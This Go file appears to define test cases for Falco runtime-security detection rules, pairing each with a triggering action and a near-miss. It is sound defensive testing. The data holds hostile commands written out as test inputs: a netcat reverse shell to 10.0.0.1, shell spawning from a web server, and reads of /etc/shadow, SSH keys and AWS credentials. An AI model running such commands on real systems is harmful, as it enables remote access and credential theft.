package node

import "tiercel.dev/internal/acts"

// A place is where an act is done.
type place int

const (
	onHost        place = iota // in a root of its own, so that nobody's files are touched
	inPod                      // in a container
	inPrivileged               // in a privileged container
	newPod                     // as the first process of a container
	newPrivileged              // as the first process of a privileged container
	newTerminal                // as the first process of a container with a terminal
)

// A staged act is one that a rule fires on, and one that it nearly does.
type staged struct {
	name        string // of what is done, if not the rule's
	rule        string
	at          place
	fires, near acts.Plan
	// nearAt is where the near miss is done, if not at the same place.
	nearAt place
}

var do, run = acts.Do, acts.Run

// as is a process of that name which does one thing.
func as(name string, deed ...string) acts.Plan { return acts.Plan{run(name), do(deed...)} }

// chain is processes that start one another.
func chain(steps ...acts.Step) acts.Plan { return steps }

// only is one process with these arguments.
func only(argv ...string) acts.Plan { return acts.Plan{run(argv...)} }

// outside is a network of one's own with a public address.
func outside(name string, deed ...string) acts.Plan {
	return acts.Plan{do("netns"), do("address", "8.8.8.8"), run(name), do(deed...)}
}

// falcoRules are the rules of the three files that are enabled, in their order: stable, incubating, sandbox.
var falcoRules = [][]staged{stableRules, incubatingRules, sandboxRules}

var stableRules = []staged{
	{rule: "Directory traversal monitored file read", fires: as("x", "open", "/tmp/../tmp/../etc/hostname", "r"), near: as("x", "open", "/tmp/../etc/hostname", "r")},
	{rule: "Read sensitive file trusted after startup",
		fires: chain(run("nginx"), do("sleep", "5200ms"), do("open", "/etc/shadow", "r")), near: as("nginx", "open", "/etc/shadow", "r")},
	{rule: "Read sensitive file untrusted", fires: as("x", "open", "/etc/shadow", "r"), near: as("vsftpd", "open", "/etc/shadow", "r")},
	{rule: "Run shell untrusted", fires: chain(run("nginx"), run("bash")), near: chain(run("nginx"), run("id"))},
	{rule: "System user interactive", fires: chain(run("sshd"), acts.Step{Run: []string{"bash"}, UID: 2}, do("sleep", "200ms")), near: chain(run("sshd"), run("bash"))},
	{rule: "Terminal shell in container", at: newTerminal, fires: only("bash"), nearAt: newPod, near: only("bash")},
	{rule: "Contact K8S API Server From Container", at: inPod, fires: as("x", "connect", "tcp", apiServer), near: as("x", "connect", "tcp", "127.0.0.3:6443")},
	{rule: "Netcat Remote Code Execution in Container", at: inPod, fires: only("nc", "10.0.0.1", "4444", "-e", "/bin/sh"), near: only("nc", "10.0.0.1", "4444")},
	{rule: "Search Private Keys or Passwords", fires: only("find", "/", "-name", "id_rsa"), near: only("find", "/", "-name", "id")},
	{rule: "Clear Log Activities", fires: as("x", "open", "/var/log/auth.log", "wt"), near: as("x", "open", "/var/log/auth.log", "w")},
	{rule: "Remove Bulk Data from Disk", fires: only("shred", "/dev/x"), near: only("rm", "/dev/x")},
	{rule: "Create Symlink Over Sensitive Files", fires: as("x", "symlink", "/etc/shadow", "/tmp/link1"), near: as("x", "symlink", "/etc/hostname", "/tmp/link2")},
	{rule: "Create Hardlink Over Sensitive Files", fires: as("x", "link", "/etc/shadow", "/tmp/link3"), near: as("x", "link", "/etc/hostname", "/tmp/link4")},
	{rule: "Packet socket created in container", at: inPod, fires: as("x", "socket", "packet"), near: as("x", "socket", "inet")},
	{rule: "Redirect STDOUT/STDIN to Network Connection in Container", at: inPod, fires: as("x", "dup-socket"), near: as("x", "dup-file")},
	{rule: "Linux Kernel Module Injection Detected", at: inPrivileged, fires: as("x", "finit_module"), nearAt: inPod, near: as("x", "finit_module")},
	{rule: "Debugfs Launched in Privileged Container", at: inPrivileged, fires: only("debugfs"), nearAt: inPod, near: only("debugfs")},
	{rule: "Detect release_agent File Container Escapes", at: inPrivileged, fires: as("x", "open", "/tmp/release_agent", "wc"),
		nearAt: inPod, near: as("x", "open", "/tmp/release_agent", "wc")},
	{rule: "PTRACE attached to process", fires: as("x", "ptrace", "attach"), near: as("x", "ptrace", "traceme")},
	{rule: "PTRACE anti-debug attempt", fires: as("x", "ptrace", "traceme"), near: as("x", "ptrace", "attach")},
	{rule: "Find AWS Credentials", fires: only("find", "/root", "-path", "/root/.aws/credentials"), near: only("find", "/root", "-path", "/root/.aws/config")},
	{rule: "Execution from /dev/shm", fires: chain(acts.Step{Run: []string{"/dev/shm/x"}, Name: "x"}), near: chain(acts.Step{Run: []string{"/dev/shmem/x"}, Name: "x"})},
	{rule: "Drop and execute new binary in container", at: inPod,
		fires: chain(do("drop", "/tmp/dropped"), acts.Step{Run: []string{"dropped"}, Path: "/tmp/dropped"}), near: only("ls")},
	{rule: "Disallowed SSH Connection Non Standard Port", fires: outside("ssh", "connect", "tcp", "8.8.8.8:443"), near: outside("ssh", "connect", "tcp", "8.8.8.8:22")},
	{rule: "Fileless execution via memfd_create", fires: chain(run("x"), do("memfd", "m"), acts.Step{Run: []string{"y"}, Path: "/proc/self/fd/9"}), near: only("y")},
}

var incubatingRules = []staged{
	{rule: "Modify Shell Configuration File", fires: as("x", "open", "/root/.bashrc", "wc"), near: as("bash", "open", "/root/.bashrc", "wc")},
	{rule: "Schedule Cron Jobs", fires: as("x", "open", "/etc/cron.d/x", "wc"), near: as("x", "open", "/etc/cron.d/x", "r")},
	{rule: "Read ssh information", fires: as("x", "open", "/root/.ssh/id_rsa", "r"), near: as("ssh", "open", "/root/.ssh/id_rsa", "r")},
	{rule: "DB program spawned process", fires: chain(run("mysqld"), run("ls")), near: chain(run("mysqld"), run("mysqld"))},
	{rule: "Change thread namespace", fires: as("x", "setns"), near: as("nsenter", "setns")},
	{rule: "Change namespace privileges via unshare", at: inPod, fires: as("x", "unshare"), nearAt: inPrivileged, near: as("x", "unshare")},
	{rule: "Launch Privileged Container", at: newPrivileged, fires: only("x"), nearAt: newPod, near: only("x")},
	{rule: "Launch Excessively Capable Container", at: newPrivileged, fires: only("x"), nearAt: newPod, near: only("x")},
	{rule: "System procs network activity", fires: outside("cat", "listen", "tcp", "8.8.8.8:80"), near: outside("hostid", "listen", "tcp", "8.8.8.8:80")},
	{rule: "Program run with disallowed http proxy env",
		fires: chain(acts.Step{Run: []string{"wget"}, Env: []string{"http_proxy=http://10.0.0.1:3128"}}), near: chain(acts.Step{Run: []string{"wget"}, Env: []string{"no_proxy=x"}})},
	{rule: "Unexpected UDP Traffic", fires: outside("x", "connect", "udp", "8.8.8.8:4444"), near: outside("x", "connect", "udp", "8.8.8.8:53")},
	{rule: "Non sudo setuid", fires: chain(acts.Step{Run: []string{"x"}, UID: 2}, do("setuid", "0")), near: as("x", "setuid", "0")},
	{rule: "User mgmt binaries", fires: only("useradd", "x"), near: chain(run("cron"), run("useradd", "x"))},
	{rule: "Create files below dev", fires: as("x", "open", "/dev/x", "wc"), near: as("x", "open", "/dev/tty9", "wc")},
	{rule: "Contact EC2 Instance Metadata Service From Container", at: inPrivileged, fires: metadata("169.254.169.254"), near: metadata("169.254.169.253")},
	{rule: "Contact cloud metadata service from container", at: inPrivileged, fires: metadata("169.254.169.254"), near: metadata("169.254.169.253")},
	{rule: "Launch Package Management Process in Container", at: inPod, fires: only("apt-get", "install", "x"), near: only("apt-mark", "hold", "x")},
	{rule: "Launch Suspicious Network Tool in Container", at: inPod, fires: only("nmap"), near: only("ping")},
	{rule: "Launch Suspicious Network Tool on Host", fires: only("nmap"), nearAt: inPod, near: only("nmap")},
	{rule: "Delete or rename shell history", fires: as("x", "open", "/root/.bash_history", "wct"), near: as("x", "open", "/root/.bash_history", "wc")},
	{rule: "Set Setuid or Setgid bit", fires: as("x", "chmod", "/tmp/file", "4755"), near: as("x", "chmod", "/tmp/file", "755")},
	{rule: "Launch Remote File Copy Tools in Container", at: inPod, fires: only("scp", "a", "b:"), near: only("cp", "a", "b")},
	{rule: "Network Connection outside Local Subnet", at: inPrivileged, fires: outside("x", "connect", "tcp", "8.8.8.8:80"), near: outside("x", "connect", "tcp", "127.0.0.1:80")},
	{rule: "Mount Launched in Privileged Container", at: inPrivileged, fires: only("mount", "/dev/x", "/mnt"), near: only("mount", "-l")},
	{rule: "Launch Ingress Remote File Copy Tools in Container", at: inPod, fires: only("wget", "http://example.com/x"), near: only("curl", "http://example.com/x")},
	{rule: "Read environment variable from /proc files", at: inPod, fires: as("x", "open", "/proc/self/environ", "r"), near: as("x", "open", "/proc/self/status", "r")},
	{rule: "Exfiltrating Artifacts via Kubernetes Control Plane", at: inPod, fires: acts.Plan{entry("tar"), do("open", "/acts/actor", "r")},
		near: as("tar", "open", "/acts/actor", "r")},
	{rule: "Adding ssh keys to authorized_keys", fires: as("x", "open", "/root/.ssh/authorized_keys", "wc"), near: as("x", "open", "/root/.ssh/known_hosts", "wc")},
	{rule: "Potential Local Privilege Escalation via Environment Variables Misuse",
		fires: chain(acts.Step{Run: []string{"su"}, Env: []string{"GLIBC_TUNABLES=glibc.malloc.mxfast=1"}}), near: chain(acts.Step{Run: []string{"su"}, Env: []string{"GLIBC_TUNABLE=x"}})},
	{rule: "Backdoored library loaded into SSHD (CVE-2024-3094)", fires: as("sshd", "open", "/usr/lib/liblzma.so.5.6.1", "r"), near: as("sshd", "open", "/usr/lib/liblzma.so.5.6.2", "r")},
	{rule: "BPF Program Not Profiled", fires: as("x", "bpf", "prog"), near: as("x", "bpf", "map")},
}

var sandboxRules = []staged{
	{rule: "Update Package Repository", fires: as("x", "open", "/etc/apt/sources.list", "wc"), near: as("x", "open", "/etc/x", "wc")},
	{rule: "Write below binary dir", fires: as("x", "open", "/usr/bin/x", "wc"), near: as("x", "open", "/usr/x", "wc")},
	{rule: "Write below monitored dir", fires: as("x", "open", "/boot/x", "wc"), near: as("x", "open", "/boot/x", "r")},
	{rule: "Write below etc", fires: as("x", "open", "/etc/x", "wc"), near: as("confd", "open", "/etc/x", "wc")},
	{rule: "Write below root", fires: as("x", "open", "/root/x", "wc"), near: as("x", "open", "/root/.ssh/known_hosts", "wc")},
	{rule: "Write below rpm database", fires: as("x", "open", "/var/lib/rpm/x", "wc"), near: as("rpm", "open", "/var/lib/rpm/x", "wc")},
	{rule: "Modify binary dirs", fires: as("x", "rename", "/usr/bin/from", "/usr/bin/to"), near: as("x", "rename", "/tmp/from", "/tmp/to")},
	{rule: "Mkdir binary dirs", fires: as("x", "mkdir", "/usr/bin/made"), near: as("x", "mkdir", "/usr/made")},
	{rule: "Launch Sensitive Mount Container", at: newPod, fires: only("x"), nearAt: inPod, near: only("x")},
	{rule: "Launch Disallowed Container", at: newPod, fires: only("x"), nearAt: inPod, near: only("x")},
	{rule: "Detect crypto miners using the Stratum protocol", fires: only("x", "-o", "stratum+tcp://pool:3333"), near: only("x", "-o", "http://pool:3333")},
	{rule: "Kubernetes Client Tool Launched in Container", at: inPod, fires: only("kubectl", "get", "pods"), near: only("helm", "list")},
	{rule: "Sudo Potential Privilege Escalation", fires: only("sudoedit", "-s", `x\`), near: only("sudoedit", "-s", "x")},
	{rule: "Unprivileged Delegation of Page Faults Handling to a Userspace Process",
		fires: chain(acts.Step{Run: []string{"x"}, UID: 2}, do("userfaultfd")), near: as("x", "userfaultfd")},
	{rule: "Polkit Local Privilege Escalation Vulnerability (CVE-2021-4034)", fires: only("pkexec"), near: only("pkexec", "id")},
	{rule: "Decoding Payload in Container", at: inPod, fires: only("sh", "-c", "base64 -d x"), near: only("sh", "-c", "base64 x")},
	{rule: "Basic Interactive Reconnaissance", fires: chain(acts.Step{Run: []string{"whoami"}, TTY: true}), near: chain(acts.Step{Run: []string{"whoami"}, Leader: true})},
	{rule: "Netcat/Socat Remote Code Execution on Host", fires: only("ncat", "--exec", "/bin/sh"), near: only("ncat", "10.0.0.1", "80")},
	{rule: "Network Tool Executed During NPM Package Install", at: inPod, fires: chain(run("npm"), run("nc")), near: chain(run("sh"), run("nc"))},
	{rule: "Known Cryptominer Process Executed", fires: only("xmrig"), near: only("xmrigs")},
	{rule: "Web Server Spawned Shell", fires: chain(run("nginx"), run("sh", "-c", "x")), near: chain(run("nginx"), run("sh", "-c", "/usr/bin/x"))},
	{rule: "Web Server Spawned Suspicious Child Process", fires: chain(run("nginx"), run("wget")), near: chain(run("nginx"), run("ls"))},
	{rule: "Reverse Shell from Web Server", fires: chain(run("nginx"), run("bash", "-i")), near: chain(run("nginx"), run("bash", "-x"))},
	{rule: "Privileged Container Device Access", at: inPod, fires: as("x", "open", "/dev/sdx", "wc"), near: as("x", "open", "/dev/xsd", "wc")},
	{rule: "Container Access to Host Sensitive Paths", at: inPod, fires: chain(run("x"), do("mkdir", "/host"), do("open", "/host/x", "wc")), near: as("x", "open", "/tmp/host", "wc")},
}

// apiServer is what the test's resolver says of the API server's name.
const apiServer = "127.0.0.2:6443"

// metadata asks a service in a network of one's own.
func metadata(address string) acts.Plan {
	return acts.Plan{do("netns"), do("address", address), run("x"), do("connect", "tcp", address+":80")}
}

// entry is the name that the runtime starts the plan's first process by.
func entry(name string) acts.Step { return acts.Step{Do: []string{"as", name}} }
